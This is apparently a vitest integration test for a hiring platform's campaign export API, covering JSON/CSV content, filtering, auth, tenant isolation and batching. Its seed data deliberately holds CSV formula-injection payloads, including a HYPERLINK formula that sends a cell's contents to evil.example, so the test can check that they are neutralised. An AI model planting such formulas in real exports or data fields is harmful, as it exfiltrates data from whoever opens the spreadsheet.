import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { interviews } from '@/db/schema';
import { exportCampaignResults } from '@/server/services/reports/export-campaign-results';
import { generateInterviewReport } from '@/server/services/reports/generate-interview-report';
import { createTestOrg, makeCampaign, makeCandidate, makeHiringSetup, makeInterview, makeKey, request, type TestOrg } from '../support/factories';
import { makeInterviewWithPendingReport, recruiterCaller } from '../support/report-factories';
import { startTestApp, type TestApp } from '../support/test-app';

let app: TestApp;
let org: TestOrg;
let seeded: Awaited<ReturnType<typeof seedCampaign>>;

beforeAll(async () => {
  app = await startTestApp();
  org = await createTestOrg(app.db, app.url);
  seeded = await seedCampaign(org.orgId);
});
afterAll(() => app?.close());

const TRIGGER = /^[=+\-@\t\r\n]/;

/**
 * One campaign with what an export must and must not contain: completed interviews with READY and PENDING
 * reports, a completed one without a report, an unfinished one, one of another campaign, test sessions, and
 * candidate data a spreadsheet would run as formulas.
 */
async function seedCampaign(orgId: string) {
  const setup = await makeHiringSetup(app.db, orgId);
  const hostile = [
    { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', lastName: 'Normal' },
    { firstName: '+1', lastName: '@SUM(A1:A9)' },
    { firstName: '-2+3', lastName: 'O"Brien, Jr.\nthe third' },
    { firstName: '\tTabbed', lastName: 'Éloïse' },
  ];
  const candidates = [];
  for (const names of hostile) candidates.push(await makeCandidate(app.db, orgId, names));
  const expectedInterviews: string[] = [];
  for (const candidate of candidates.slice(0, 3)) {
    const { interview, report } = await makeInterviewWithPendingReport(app.db, orgId, { setup, candidate });
    await generateInterviewReport(app.db, { reportId: report.id });
    expectedInterviews.push(interview.id);
  }
  // Without a configuration: criteria come from the evaluations, one with a key that looks like a formula.
  const unconfigured = await makeInterviewWithPendingReport(app.db, orgId, {
    setup,
    candidate: candidates[3],
    withConfig: false,
    turns: [{ turnNumber: 1, role: 'candidate', content: '=1+1', evaluation: { scores: { '=cmd': 5, communication: 4 }, flags: ['@flag'] } }],
  });
  await generateInterviewReport(app.db, { reportId: unconfigured.report.id });
  expectedInterviews.push(unconfigured.interview.id);
  const pending = await makeInterviewWithPendingReport(app.db, orgId, { setup, candidate: candidates[0] });
  expectedInterviews.push(pending.interview.id);
  // Finalized without a report (the stage said so): no result to export.
  const noReport = await makeInterview(app.db, orgId, {
    candidateId: candidates[1].id,
    jobId: setup.job.id,
    campaignId: setup.campaign.id,
    status: 'COMPLETED',
    completedAt: new Date(),
  });
  const unfinished = await makeInterviewWithPendingReport(app.db, orgId, { setup, candidate: candidates[2], status: 'IN_PROGRESS' });
  const otherCampaign = await makeCampaign(app.db, orgId, setup.job.id, 'Autumn hiring');
  const elsewhere = await makeInterview(app.db, orgId, { candidateId: candidates[0].id, jobId: setup.job.id, campaignId: otherCampaign.id, status: 'COMPLETED', completedAt: new Date() });

  const recruiter = recruiterCaller(app.db, orgId);
  const tests = [];
  for (const [i, candidate] of candidates.slice(0, 2).entries()) {
    tests.push(
      await recruiter.testSessions.record({
        candidateId: candidate.id,
        campaignId: setup.campaign.id,
        testName: i === 0 ? '@Algorithms' : 'SQL, joins',
        score: 30 + i,
        maxScore: 40,
        completedAt: new Date(Date.UTC(2026, 0, 10 + i)).toISOString(),
        results: [{ task: 'a', score: 30 + i, maxScore: 40, passed: true }],
      }),
    );
  }
  await recruiter.testSessions.record({ candidateId: candidates[0].id, campaignId: otherCampaign.id, testName: 'Elsewhere', score: 1, maxScore: 2, completedAt: new Date().toISOString() });
  return { setup, candidates, expectedInterviews, noReport, unfinished, elsewhere, tests };
}

async function exportOf(query: string, key?: string) {
  return request(app.url, `/api/v1/reports/export?${query}`, { key: key ?? org.apiKey });
}

/** What a cell must read once parsed: the value as text, with a leading quote if a spreadsheet would run it. */
function cell(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  return TRIGGER.test(text) ? `'${text}` : text;
}

describe('GET /api/v1/reports/export', () => {
  it('JSON: the reports of the completed interviews and of the test sessions of the campaign, nothing else', async () => {
    const res = await exportOf(`campaignId=${seeded.setup.campaign.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('ratelimit-remaining')).toBeTruthy();
    expect(res.headers.get('x-request-id')).toMatch(/^req_/);
    expect(Object.keys(res.body)).toEqual(['campaignId', 'exportedAt', 'interviews', 'tests']);
    expect(res.body.campaignId).toBe(seeded.setup.campaign.id);
    expect(Date.parse(res.body.exportedAt)).not.toBeNaN();
    expect(res.body.interviews.map((i: { interviewId: string }) => i.interviewId).sort()).toEqual([...seeded.expectedInterviews].sort());
    expect(res.body.tests.map((t: { testSessionId: string }) => t.testSessionId).sort()).toEqual(seeded.tests.map((t) => t.testSessionId).sort());

    const ready = res.body.interviews.find((i: { interviewId: string }) => i.interviewId === seeded.expectedInterviews[0]);
    expect(ready).toMatchObject({
      type: 'interview',
      status: 'READY',
      campaignId: seeded.setup.campaign.id,
      candidateId: seeded.candidates[0].id,
      overallScore: 76.7,
      recommendation: 'YES',
      candidate: { id: seeded.candidates[0].id, firstName: seeded.candidates[0].firstName },
      jobId: seeded.setup.job.id,
      generator: 'rules',
    });
    const pending = res.body.interviews.find((i: { interviewId: string }) => i.interviewId === seeded.expectedInterviews[4]);
    expect(pending).toMatchObject({ status: 'PENDING', overallScore: null, criteria: [] });
    // Each item is the report as GET /reports/{reportId} gives it, plus its candidate, without the transcript, the
    // integrity signals and the provenance (read per report: docs/API.md).
    const byReportId = await org.api(`/api/v1/reports/${ready.id}`);
    const { transcript, integrity, provenance, ...withoutTranscript } = byReportId.body;
    expect(transcript.length).toBeGreaterThan(0);
    expect(integrity).toMatchObject({ pageAway: { count: 0 } });
    expect(provenance).toMatchObject({ scoring: expect.any(Object) });
    expect(ready).not.toHaveProperty('integrity');
    expect(ready).not.toHaveProperty('provenance');
    expect(ready).toEqual({
      ...withoutTranscript,
      candidate: expect.any(Object),
      interviewCompletedAt: expect.any(String),
      interviewConsentedAt: null,
      interviewAnswerMode: null,
      decision: null,
      finalScore: withoutTranscript.overallScore,
      scoreSource: 'ai',
    });
    const ids = res.body.interviews.map((i: { interviewId: string }) => i.interviewId);
    for (const excluded of [seeded.noReport.id, seeded.unfinished.interview.id, seeded.elsewhere.id]) expect(ids).not.toContain(excluded);
    const test = res.body.tests.find((t: { testSessionId: string }) => t.testSessionId === seeded.tests[0].testSessionId);
    expect(test).toEqual({ ...seeded.tests[0], candidate: { id: seeded.candidates[0].id, email: seeded.candidates[0].email, firstName: seeded.candidates[0].firstName, lastName: 'Normal' } });
  });

  it('CSV: parsed back, it equals the JSON export; one criterion column per criterion; no cell can run as a formula', async () => {
    const json = (await exportOf(`campaignId=${seeded.setup.campaign.id}&format=json`)).body;
    const res = await exportOf(`campaignId=${seeded.setup.campaign.id}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="campaign-${seeded.setup.campaign.id}-all-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(res.text.endsWith('\r\n')).toBe(true);

    const rows: string[][] = parse(res.text);
    const [header, ...records] = rows;
    expect(header.slice(0, 12)).toEqual([
      'type',
      'reportId',
      'sourceId',
      'candidateId',
      'candidateEmail',
      'candidateFirstName',
      'candidateLastName',
      'jobId',
      'status',
      'overallScore',
      'recommendation',
      'completedAt',
    ]);
    const criterionColumns = header.filter((h) => h.startsWith('criterion:'));
    expect(criterionColumns).toEqual(['criterion:=cmd', 'criterion:communication', 'criterion:technical']);
    for (const value of rows.flat()) expect(value).not.toMatch(TRIGGER);

    expect(records).toHaveLength(json.interviews.length + json.tests.length);
    const byId = new Map(records.map((r) => [r[header.indexOf('sourceId')], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    for (const item of json.interviews) {
      const scores = new Map(item.criteria.map((c: { key: string; score: number | null }) => [c.key, c.score]));
      expect(byId.get(item.interviewId)).toEqual({
        type: 'interview',
        reportId: item.id,
        sourceId: item.interviewId,
        candidateId: item.candidate.id,
        candidateEmail: item.candidate.email,
        candidateFirstName: cell(item.candidate.firstName),
        candidateLastName: cell(item.candidate.lastName),
        jobId: item.jobId,
        status: cell(item.status),
        overallScore: cell(item.overallScore),
        recommendation: cell(item.recommendation),
        completedAt: item.interviewCompletedAt,
        testName: '',
        score: '',
        maxScore: '',
        generator: cell(item.generator),
        flags: cell(item.flags.map((f: { code: string; turnNumber: number }) => `${f.code} (turn ${f.turnNumber})`).join('; ')),
        summary: cell(item.summary),
        consentedAt: cell(item.interviewConsentedAt),
        answerMode: cell(item.interviewAnswerMode),
        scoreSource: cell(item.scoreSource),
        aiOverallScore: cell(item.overallScore),
        humanReviewedAt: '',
        decision: '',
        decisionReason: '',
        decidedAt: '',
        decidedByType: '',
        decidedById: '',
        'criterion:=cmd': cell(scores.get('=cmd')),
        'criterion:communication': cell(scores.get('communication')),
        'criterion:technical': cell(scores.get('technical')),
      });
    }
    for (const item of json.tests) {
      expect(byId.get(item.testSessionId)).toEqual({
        type: 'test',
        reportId: item.id,
        sourceId: item.testSessionId,
        candidateId: item.candidate.id,
        candidateEmail: item.candidate.email,
        candidateFirstName: cell(item.candidate.firstName),
        candidateLastName: cell(item.candidate.lastName),
        jobId: item.jobId,
        status: 'READY',
        overallScore: String(item.percentage),
        recommendation: '',
        completedAt: item.completedAt,
        testName: cell(item.testName),
        score: String(item.score),
        maxScore: String(item.maxScore),
        generator: '',
        flags: '',
        summary: '',
        consentedAt: '',
        answerMode: '',
        scoreSource: '',
        aiOverallScore: '',
        humanReviewedAt: '',
        decision: '',
        decisionReason: '',
        decidedAt: '',
        decidedByType: '',
        decidedById: '',
        'criterion:=cmd': '',
        'criterion:communication': '',
        'criterion:technical': '',
      });
    }
    // The hostile names survive, neutralised, and the multi-line one stays one record.
    const names = records.map((r) => r[header.indexOf('candidateFirstName')]);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(names).toContain("'+1");
    expect(records.map((r) => r[header.indexOf('candidateLastName')])).toContain('O"Brien, Jr.\nthe third');
  });

  it('type filters: only the requested keys in JSON, only the requested rows in CSV', async () => {
    const campaignId = seeded.setup.campaign.id;
    const interviewsOnly = await exportOf(`campaignId=${campaignId}&type=interviews`);
    expect(Object.keys(interviewsOnly.body)).toEqual(['campaignId', 'exportedAt', 'interviews']);
    expect(interviewsOnly.body.interviews).toHaveLength(seeded.expectedInterviews.length);
    const testsOnly = await exportOf(`campaignId=${campaignId}&type=tests&format=json`);
    expect(Object.keys(testsOnly.body)).toEqual(['campaignId', 'exportedAt', 'tests']);
    expect(testsOnly.body.tests).toHaveLength(2);

    const csvTests: string[][] = parse((await exportOf(`campaignId=${campaignId}&type=tests&format=csv`)).text);
    expect(csvTests.slice(1).map((r) => r[0])).toEqual(['test', 'test']);
    // No interview rows, so no criterion columns either.
    expect(csvTests[0].some((h) => h.startsWith('criterion:'))).toBe(false);
    const csvInterviews: string[][] = parse((await exportOf(`campaignId=${campaignId}&type=interviews&format=csv`)).text);
    expect(csvInterviews.slice(1).map((r) => r[0])).toEqual(seeded.expectedInterviews.map(() => 'interview'));
  });

  it('an empty campaign exports a header row or empty arrays', async () => {
    const campaign = await makeCampaign(app.db, org.orgId, seeded.setup.job.id, 'Empty');
    const json = await exportOf(`campaignId=${campaign.id}`);
    expect(json.body).toMatchObject({ campaignId: campaign.id, interviews: [], tests: [] });
    const csv = await exportOf(`campaignId=${campaign.id}&format=csv`);
    expect(parse(csv.text)).toHaveLength(1);
  });

  it('400 for a missing campaignId, a bad format or type, an unknown parameter', async () => {
    const campaignId = seeded.setup.campaign.id;
    const cases: [string, string][] = [
      ['', 'campaignId'],
      [`campaignId=${campaignId}&format=xml`, 'format'],
      [`campaignId=${campaignId}&type=everything`, 'type'],
      [`campaignId=${campaignId}&fomat=csv`, 'fomat'],
    ];
    for (const [query, field] of cases) {
      const res = await exportOf(query);
      expect(res.status, query).toBe(400);
      expect(res.body.error.code).toBe('VALIDATION_ERROR');
      expect(res.body.error.issues.map((i: { path: string }) => i.path), query).toContain(field);
      expect(res.headers.get('x-request-id')).toBe(res.body.error.requestId);
    }
  });

  it("another organization's campaign is 404 exactly like a missing one", async () => {
    const other = await createTestOrg(app.db, app.url);
    const theirs = await makeHiringSetup(app.db, other.orgId);
    expect((await exportOf(`campaignId=${theirs.campaign.id}`, other.apiKey)).status).toBe(200);
    const foreign = await exportOf(`campaignId=${theirs.campaign.id}&format=csv`);
    const missing = await exportOf('campaignId=cmp_doesnotexist0000000000&format=csv');
    const malformed = await exportOf('campaignId=not-a-campaign');
    for (const res of [foreign, missing, malformed]) {
      expect(res.status).toBe(404);
      expect(res.body.error).toMatchObject({ code: 'NOT_FOUND', message: 'Campaign not found' });
    }
    // And the other organization's export never shows this one's rows.
    const theirExport = await exportOf(`campaignId=${theirs.campaign.id}`, other.apiKey);
    expect(theirExport.body.interviews).toEqual([]);
  });

  it('401 without a key, 403 without reports:read, 404 for other methods', async () => {
    const campaignId = seeded.setup.campaign.id;
    const anonymous = await request(app.url, `/api/v1/reports/export?campaignId=${campaignId}`);
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.error.code).toBe('UNAUTHORIZED');
    const key = await makeKey(app.db, org.orgId, ['interviews:read']);
    const forbidden = await exportOf(`campaignId=${campaignId}`, key.key);
    expect(forbidden.status).toBe(403);
    expect(forbidden.body.error.message).toContain('reports:read');
    expect(forbidden.headers.get('ratelimit-limit')).toBeTruthy();
    const post = await request(app.url, `/api/v1/reports/export?campaignId=${campaignId}`, { method: 'POST', key: org.apiKey, body: {} });
    expect(post.status).toBe(404);
    expect(post.body.error.code).toBe('NOT_FOUND');
  });

  it('keyset batches neither skip nor repeat rows, even with timestamps equal to the millisecond', async () => {
    const other = await createTestOrg(app.db, app.url);
    const setup = await makeHiringSetup(app.db, other.orgId);
    const candidate = await makeCandidate(app.db, other.orgId);
    const ids: string[] = [];
    for (let i = 0; i < 7; i++) {
      const { interview } = await makeInterviewWithPendingReport(app.db, other.orgId, { setup, candidate, turns: [] });
      ids.push(interview.id);
    }
    // Same millisecond, different microseconds: a cursor kept as a JavaScript Date would lose rows here.
    for (const [i, id] of ids.entries()) {
      await app.db.update(interviews).set({ createdAt: sql`'2026-02-01 10:00:00.123000+00'::timestamptz + ${i % 3} * interval '1 microsecond'` }).where(eq(interviews.id, id));
    }
    for (const batchSize of [1, 2, 3, 500]) {
      const exported = await exportCampaignResults(app.db, { orgId: other.orgId, campaignId: setup.campaign.id, format: 'json', type: 'interviews', batchSize });
      let text = '';
      for await (const chunk of exported.body) text += chunk;
      const got = JSON.parse(text).interviews.map((i: { interviewId: string }) => i.interviewId);
      expect(got, `batch ${batchSize}`).toHaveLength(ids.length);
      expect([...got].sort(), `batch ${batchSize}`).toEqual([...ids].sort());
    }
  });
});
